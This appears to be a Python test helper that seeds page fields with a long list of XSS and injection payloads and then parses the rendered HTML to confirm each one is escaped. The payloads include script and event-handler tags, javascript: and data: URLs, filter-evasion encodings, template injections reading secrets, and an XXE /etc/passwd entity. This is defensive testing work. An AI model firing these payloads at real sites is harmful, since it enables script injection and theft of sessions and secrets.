"""Texts that would be more than text on a page which forgot to escape them, and what tells whether one was.

Each text bears a mark (`zqx…`) in whatever it would create: an element's name or attribute, a script, an address. A
page is sound where marks stand in text and in the few attributes that hold text, and nowhere else.
"""

import html
import json
import re
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from urllib.parse import urlsplit

from feeds.admin.display import visible

MARK = re.compile(r"zqx([a-z]+)([0-9]+)q", re.IGNORECASE)

#: One on each line; `§` is where the mark goes. Blank lines part the ways to become more than text.
_TEXTS = """
<script>§()</script>
<ScRiPt>§()</sCrIpT>
<script src=//§.example></script>
<script/§>§()</script>
<scr<script>ipt>§()</scr</script>ipt>
<<script>§()//<</script>
<script type=module>import "//§.example"</script>
<img src=x onerror=§()>
<img/src="x"/onerror=§()>
<IMG SRC=x OnErRoR=§()>
<img src=`x` onerror=§()>
<img src=x onerror="§()"
<img srcset="//§.example/x 1x">
<image href=x onerror=§()>
<iframe src=javascript:§()></iframe>
<iframe srcdoc="<script>§()</script>"></iframe>
<iframe src=//§.example>
<object data=javascript:§()></object>
<object data=//§.example type=text/html>
<embed src=//§.example/x.swf>
<applet code=§></applet>
<link rel=stylesheet href=//§.example/x.css>
<link rel=import href=//§.example>
<link rel=prefetch href=//§.example>
<meta http-equiv=refresh content="0;url=//§.example">
<meta charset=utf-7 §>+ADw-script+AD4-§()
<base href=//§.example/>
<base target=§>
<form action=//§.example><input name=§></form>
<form id=§></form><button form=§ formaction=javascript:§()>x
<input autofocus onfocus=§()>
<input type=image src=x onerror=§()>
<input type=hidden name=csrfmiddlewaretoken value=§ §=1>
<button onclick=§()>x</button>
<select autofocus onfocus=§()>
<textarea autofocus onfocus=§()>
<keygen autofocus onfocus=§()>
<details open ontoggle=§()>
<video src=x onerror=§()>
<video><source onerror=§()></video>
<audio src=x onerror=§()>
<body onload=§()>
<body background=javascript:§()>
<html onmouseover=§()>
<frameset onload=§()>
<frame src=//§.example>
<marquee onstart=§()>
<table background=javascript:§()>
<td background=//§.example>
<a href=javascript:§()>x</a>
<a href=//§.example target=_blank>x</a>
<a name=§ §=1>
<area href=javascript:§()>
<b §=1>x</b>
<b style=color:red §=1>
<§>x</§>
<§-element onclick=§()>
<dialog open §=1>
<template §=1><script>§()</script></template>
<slot name=§ §=1>
<noscript><p title="</noscript><img src=x onerror=§()>">
<xmp §=1><img src=x onerror=§()>
<plaintext §=1>
<listing §=1>
<isindex action=javascript:§()>
<!--><img src=x onerror=§()>-->
<!-- --!><img src=x onerror=§()>
<!--[if gte IE 4]><script>§()</script><![endif]-->
<![CDATA[<img src=x onerror=§()>]]>
<?§ <img src=x onerror=§()>?>
<!doctype §>
<!ENTITY § SYSTEM "file:///etc/passwd">
</title><script>§()</script>
</textarea><script>§()</script>
</style><script>§()</script>
</script><script>§()</script>
</option></select><img src=x onerror=§()>
</td></tr></table><img src=x onerror=§()>
</pre></code><img src=x onerror=§()>
</form></div></body></html><script>§()</script>

<svg onload=§()>
<svg/onload=§()//
<svg><script>§()</script></svg>
<svg><script href=//§.example /></svg>
<svg><script xlink:href=data:,§()></script>
<svg><a xlink:href=javascript:§()><text>x</text></a></svg>
<svg><animate onbegin=§() attributeName=x>
<svg><set attributeName=href to=javascript:§()>
<svg><use href="data:image/svg+xml,§">
<svg><style><img src=x onerror=§()></style></svg>
<svg><foreignObject><iframe src=//§.example>
<svg><desc><img src=x onerror=§()></desc></svg>
<math><mi xlink:href=javascript:§()>x</mi></math>
<math><mtext><img src=x onerror=§()></mtext></math>
<math><maction actiontype=statusline#§ href=//§.example>

" onmouseover=§() x="
" autofocus onfocus="§()
" §="
"><§>
"><img src=x onerror=§()>
"/><script>§()</script>
" style="background:url(//§.example)" x="
" srcdoc="§" x="
' onmouseover=§() x='
' autofocus onfocus='§()
' §='
'><§>
'/><script>§()</script>
` onmouseover=§() `
`><§>
 onmouseover=§() §
\tonmouseover=§()\t§
 /onfocus=§()/autofocus/§
x onfocus=§() autofocus §=1
"'`><img src=x onerror=§()>
"' onclick=§() "'
&quot; onclick=§() x=&quot;
&#34; onclick=§() x=&#34;
\\" onclick=§() x=\\"
\\' onclick=§() x=\\'
"accesskey=x onclick=§()//
" formaction=javascript:§() x="
" http-equiv=refresh content="0;//§.example

javascript:§()
JaVaScRiPt:§()
 javascript:§()
\x01javascript:§()
java\tscript:§()
javascript&colon;§()
&#106;avascript:§()
&#x6A&#x61&#x76&#x61script:§()
javascript://%0a§()
javascript:/*--></title></style></textarea></script><svg onload=§()>
vbscript:§()
livescript:§()
data:text/html,<script>§()</script>
data:text/html;base64,PHNjcmlwdD4=§
data:image/svg+xml,<svg onload=§()>
data:,§
//§.example
///§.example
\\\\§.example
/\\§.example
https:§.example
http://§.example/
https://ok.example@§.example
file:///§
blob:https://§.example/1
view-source:https://§.example
feed:javascript:§()
filesystem:https://§.example
ws://§.example
?next=//§.example
%2f%2f§.example
..%2f..%2f§

}body{background:url(//§.example)}
;background:url(//§.example)
x:expression(§())
@import '//§.example/x.css';
</style><style>*{x:§}
-moz-binding:url(//§.example#x)
behavior:url(//§.example)
\\65xpression(§())

{{ §|safe }}
{{ "eva"|add:"luated§" }}
{{ settings.SECRET_KEY }}§
{{ request.user.password }}§
{% debug %}§
{% load static %}{% static "§" %}
{% include "§" %}
{% autoescape off %}<§>{% endautoescape %}
{% endblock %}§
{# § #}
{% comment %}§
{{7*7}}${7*7}#{7*7}§
<%= § %>
{{constructor.constructor('§()')()}}
{{{§}}}
[[${§}]]
%(§)s %s %d %
{0.__class__.__init__.__globals__}§
{§!r:>10}
$(§) `§` ${IFS}

';§();//
";§();//
\\';§();//
`;§();//
${§()}
</script><!--<script>§
*/§()/*
});§();({
\u2028§()//
\u2029§()//
\\u003cscript\\u003e§()
\\x3cimg src=x onerror=§()\\x3e
-§()-
]]>§

＜script＞§()＜/script＞
<\u200bscript>§()</script>
<\u0338script>§()</script>
<\u00a0img src=x onerror=§()>
<img\u2003src=x\u2003onerror=§()>
<img\x0csrc=x\x0conerror=§()>
<img\x0bsrc=x\x0bonerror=§()>
<\u017fcript>§()</\u017fcript>
<\u212aeygen onfocus=§()>
\u202e<img src=x onerror=§()>\u202c
\u2066§\u2069 \u200f§
\ufeff<script>§()</script>
\u0085<script>§()</script>
\x1b[31m<script>§()</script>\x1b]8;;//§.example\x07
‹script›§()‹/script›
"＂ onclick=§() ＂
\U000e0001\U000e003c§

&lt;script&gt;§()&lt;/script&gt;
&LT;script&GT;§()
&lt;img src=x onerror=§()&gt;
&amp;lt;script&amp;gt;§()
&#60;script&#62;§()
&#x3c;script&#x3e;§()
&#0000060script&#0000062§()
&ltscript&gt§()
%3Cscript%3E§()%3C/script%3E
%253Cscript%253E§()
+ADw-script+AD4-§()+ADw-/script+AD4-
=?utf-8?q?=3Cscript=3E§=3C/script=3E?=

[x](javascript:§())
[x](<javascript:§()>)
[x](JAVASCRIPT:§())
[x](data:text/html,§)
[x](vbscript:§())
[x](//§.example "onmouseover=§()")
[x](https://ok.example/"onmouseover="§())
![x](https://§.example/p.png)
![x](javascript:§())
<javascript:§()>
<data:text/html,§>
[§]: javascript:§() [x][§]
# § <script>§()</script>
| § | <b §=1> | |---|---|
**<img src=x onerror=§()>**
`<script>§()</script>`
<a href="javascript:§()" title="§">**x**</a>
\\<script>§()\\</script>
"""

PAYLOADS = tuple(line for line in _TEXTS.split("\n") if line.strip())

#: Attributes in which any text is only text.
TEXT_ATTRIBUTES = frozenset(
    {"value", "title", "aria-label", "placeholder", "data-inline-formset", "datetime", "alt"}
)
ADDRESS_ATTRIBUTES = frozenset(
    "href src action formaction xlink:href poster data background cite ping srcset manifest codebase".split()
)
_IGNORED_IN_ADDRESSES = re.compile(r"^[\x00-\x20]+|[\t\r\n]")
_SHOWN = re.compile(r"⟨U\+[0-9A-F]{4,6}⟩")


def texts(code: str) -> list[str]:
    """Every payload for one field; `code` (letters) tells on the page which field it was."""
    return [payload.replace("§", f"zqx{code}{number}q") for number, payload in enumerate(PAYLOADS)]


def handfuls(code: str, size: int = 5) -> list[str]:
    """The payloads in texts of a few each, for lists whose rows are short."""
    every = texts(code)
    return ["\n".join(every[start : start + size]) for start in range(0, len(every), size)]


def bundle(code: str) -> str:
    """All payloads in one text, for pages that show one object."""
    return "\n".join(texts(code))


def essence(text: str) -> str:
    """What is left where invisible characters are written out, dropped, or folded."""
    plain = _SHOWN.sub("", text)
    return plain.translate({ord(letter): None for letter in set(plain) if not _stays(letter)})


def _stays(letter: str) -> bool:
    return not letter.isspace() and visible(letter) == letter


@dataclass
class Sight(HTMLParser):
    """A page as a browser would take it: what it shows, and every place where a mark is more than text."""

    shown: list[str] = field(default_factory=list)
    faults: list[str] = field(default_factory=list)
    _raw: str = ""

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if MARK.search(tag):
            self.faults.append(f"element {tag[:80]}")
        if tag in self.CDATA_CONTENT_ELEMENTS:
            self._raw = tag
        for name, value in attrs:
            self._attribute(tag, name, value or "", dict(attrs))

    def handle_endtag(self, tag: str) -> None:
        self._raw = "" if tag == self._raw else self._raw

    def handle_data(self, data: str) -> None:
        if self._raw:
            self._inside(f"a {self._raw} element", data)
        else:
            self.shown.append(data)

    def handle_comment(self, data: str) -> None:
        self._inside("a comment", data)

    def handle_decl(self, decl: str) -> None:
        self._inside("a declaration", decl)

    def unknown_decl(self, data: str) -> None:
        self._inside("a declaration", data)

    def handle_pi(self, data: str) -> None:
        self._inside("an instruction", data)

    def _inside(self, place: str, data: str) -> None:
        if MARK.search(data):
            self.faults.append(f"{place}: {data[:120]}")

    def _attribute(self, tag: str, name: str, value: str, attrs: dict[str, str | None]) -> None:
        told = f"<{tag[:40]} {name[:40]}={value[:120]!r}>"
        if MARK.search(name) or name.startswith("on"):
            self.faults.append(told)
        elif name in ADDRESS_ATTRIBUTES:
            if attrs.get("rel") == "icon" and not MARK.search(value):
                return  # drawn in the address itself
            if not _is_harmless(value, outside=attrs.get("rel") == "noreferrer nofollow"):
                self.faults.append(told)
        elif name in TEXT_ATTRIBUTES or (tag == "meta" and "http-equiv" not in attrs and name == "content"):
            self.shown.append(value)
        elif MARK.search(value):
            self.faults.append(told)


def _is_harmless(address: str, *, outside: bool) -> bool:
    """An address of this site or a plain web address; a mark may stand in its path or query, not in its host.

    `outside`: it is a link of a local note, which may lead anywhere on the web.
    """
    plain = _IGNORED_IN_ADDRESSES.sub("", address).replace("\\", "/")
    # Browsers take any number of slashes, also none after http:, for the two before a host.
    found = urlsplit(re.sub(r"^(https?:|(?=//))/*", r"\1//", plain, flags=re.IGNORECASE))
    return found.scheme in {"", "http", "https", "mailto"} and (outside or not MARK.search(found.netloc))


def look_at(page: str) -> Sight:
    sight = Sight()
    sight.feed(page)
    if sight.cdata_elem:
        sight.feed(f"</{sight.cdata_elem}>")  # a browser takes what is left for the script or style that was begun
    sight.close()
    return sight


def faults_of(page: str, *, reworded: Iterable[str] = ()) -> list[str]:
    """Why the page is not sound; also where a payload is shown otherwise than letter by letter.

    Args:
        reworded: codes of fields that are cut or rendered, so that only what they create is looked at.
    """
    sight = look_at(page)
    whole = essence(" ".join(sight.shown))
    told = _told(marks_of(sight), frozenset(reworded))
    missing = [text for text in told if not any(essence(form) in whole for form in _forms(text))]
    return [*sight.faults, *(f"not shown as it is: {text}" for text in missing)]


def _forms(text: str) -> tuple[str, ...]:
    """A text as it is, within JSON, and within a list whose items stand in quotation marks."""
    return text, _as_json(text), text.replace('"', '""')


def marks_of(sight: Sight) -> set[tuple[str, str]]:
    """Field and number of each mark that is shown."""
    return {(field.lower(), number) for text in sight.shown for field, number in MARK.findall(text)}


def _told(marks: set[tuple[str, str]], reworded: frozenset[str]) -> Iterator[str]:
    for code, number in sorted(marks):
        if code not in reworded:
            yield PAYLOADS[int(number)].replace("§", f"zqx{code}{number}q")


def _as_json(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)[1:-1]


def fields_on(page: str) -> set[str]:
    """Codes of the fields that the page shows something of, so that a test cannot pass on an empty page."""
    return {code for code, _ in marks_of(look_at(page))}


def unescaped(page: str) -> str:
    """The page as it would be had it forgotten to escape: what the checks must find faults in."""
    return html.unescape(page)
